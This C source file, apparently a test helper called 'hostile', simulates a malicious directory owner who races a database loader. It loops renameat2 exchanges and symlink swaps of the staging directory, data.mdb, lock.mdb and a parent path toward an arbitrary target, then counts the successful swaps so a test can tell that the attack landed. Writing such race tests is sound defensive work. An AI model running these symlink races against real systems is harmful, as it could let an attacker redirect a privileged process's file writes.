/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The owner of a database directory, who exchanges a name in it while somebody else
 * loads:
 *
 *   hostile WAY DIR TARGET COUNT
 *
 *   blind     ditkit-staging for a directory in which data.mdb is a link to TARGET, as
 *             often as he can
 *   staging   the same, once for each ditkit-staging that is not his
 *   late      the same, a little later: the load may have a file in it
 *   lock      lock.mdb for a link to TARGET, while there is a ditkit-staging
 *   data      data.mdb likewise
 *   flip-lock lock.mdb for such a link, and back again, all the time
 *   flip-data data.mdb likewise
 *   way       "site", a directory further up, for "evil", a link, and back again, as
 *             often as he can; TARGET is not used
 *
 * The file COUNT, eight bytes, has the number of names that he has exchanged while a load
 * was there: who sees it grow during a load knows that the attack took place. Ends when
 * it is killed.
 */
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#define STAGING "ditkit-staging"

/* The link may be there already: then there is nothing to do. */
static void put_link(const char *target, const char *name)
{
	int r = symlink(target, name);

	(void)r;
}

static uint64_t *nexchanged; /* in the map of COUNT */

static bool exists(const char *name)
{
	struct stat st;

	return lstat(name, &st) == 0;
}

static bool is_link(const char *name)
{
	struct stat st;

	return lstat(name, &st) == 0 && S_ISLNK(st.st_mode);
}

/* "evil" is the staging directory of an earlier load: out of the way with it. */
static void put_aside(void)
{
	static unsigned n;
	char name[32];

	(void)snprintf(name, sizeof(name), "old-%u", n++);
	(void)rename("evil", name);
}

/* Each may be taken away at any moment, and is made again. */
static void prepare_directory(const char *target)
{
	if (exists("evil") && !is_link("evil/data.mdb")) {
		put_aside();
	}
	if (mkdir("evil", 0777) == 0) {
		(void)chmod("evil", 0777);
	}
	put_link(target, "evil/data.mdb");
	put_link(target, "evil/lock.mdb");
}

static bool exchange(const char *name)
{
	return renameat2(AT_FDCWD, "evil", AT_FDCWD, name, RENAME_EXCHANGE) == 0;
}

/* A staging directory that he has not put there. */
static bool is_of_a_load(void)
{
	return exists(STAGING) && !is_link(STAGING "/data.mdb");
}

/* A load may open a name before or after an exchange, at any moment. */
static void wait_a_little(void)
{
	static unsigned state = 12345;

	state = state * 1103515245u + 12345u;
	(void)usleep((state >> 16) % 3000);
}

static void attack_staging(const char *target, bool is_blind, bool is_late)
{
	for (;;) {
		bool is_theirs = false;

		prepare_directory(target);
		while (!is_blind && !is_of_a_load()) {
			/* Be quick: the load is about to use it. */
		}
		is_theirs = is_of_a_load();
		if (is_late) {
			wait_a_little();
		}
		if (exchange(STAGING) && is_theirs) {
			++*nexchanged;
		}
	}
}

/* While it loads the link has the name; else what the load left has it. */
static void attack_file(const char *name, const char *target)
{
	for (;;) {
		bool is_loading = exists(STAGING);
		bool is_exchanged = is_link(name);
		bool is_done = false;

		put_link(target, "evil");
		if (is_exchanged != is_loading) {
			is_done = exchange(name);
			if (!is_done && is_loading) {
				/* there is no file of that name yet */
				is_done = symlink(target, name) == 0;
			}
			*nexchanged += is_done && is_loading ? 1 : 0;
		}
		if (is_exchanged && !is_loading) {
			(void)unlink(name); /* if there was nothing to exchange it with */
		}
	}
}

/* The file that a load made is put back if it is there; else the link goes. */
static bool take_link_away(const char *name)
{
	return exists("evil") && !is_link("evil") ? exchange(name) : unlink(name) == 0;
}

/* "evil" has what a load made while the name is the link. */
static bool put_link_there(const char *name, const char *target)
{
	if (!is_link("evil")) {
		(void)unlink("evil"); /* a load has made a newer one */
	}
	put_link(target, "evil");
	return exists(name) ? exchange(name) : rename("evil", name) == 0;
}

static void flip(const char *name, const char *target)
{
	for (;;) {
		bool is_done = is_link(name) ? take_link_away(name)
		                             : put_link_there(name, target);

		*nexchanged += is_done ? 1 : 0;
		wait_a_little();
	}
}

static void exchange_way(void)
{
	for (;;) {
		*nexchanged += exchange("site") ? 1 : 0;
	}
}

static bool map_count(const char *path)
{
	int fd = open(path, O_RDWR);
	void *p = fd < 0 ? MAP_FAILED
	                 : mmap(NULL, sizeof(*nexchanged), PROT_READ | PROT_WRITE,
	                        MAP_SHARED, fd, 0);

	nexchanged = p;
	return p != MAP_FAILED;
}

int main(int argc, char **argv)
{
	if (argc != 5 || !map_count(argv[4]) || chdir(argv[2]) != 0) {
		(void)fprintf(stderr, "usage: hostile WAY DIR TARGET COUNT\n");
		return 2;
	}
	if (strcmp(argv[1], "flip-lock") == 0) {
		flip("lock.mdb", argv[3]);
	}
	if (strcmp(argv[1], "flip-data") == 0) {
		flip("data.mdb", argv[3]);
	}
	if (strcmp(argv[1], "flip-prepared") == 0) {
		flip("ditkit-prepared", argv[3]);
	}
	if (strcmp(argv[1], "way") == 0) {
		exchange_way();
	}
	if (strcmp(argv[1], "lock") == 0) {
		attack_file("lock.mdb", argv[3]);
	}
	if (strcmp(argv[1], "data") == 0) {
		attack_file("data.mdb", argv[3]);
	}
	attack_staging(argv[3], strcmp(argv[1], "blind") == 0,
	               strcmp(argv[1], "late") == 0);
}
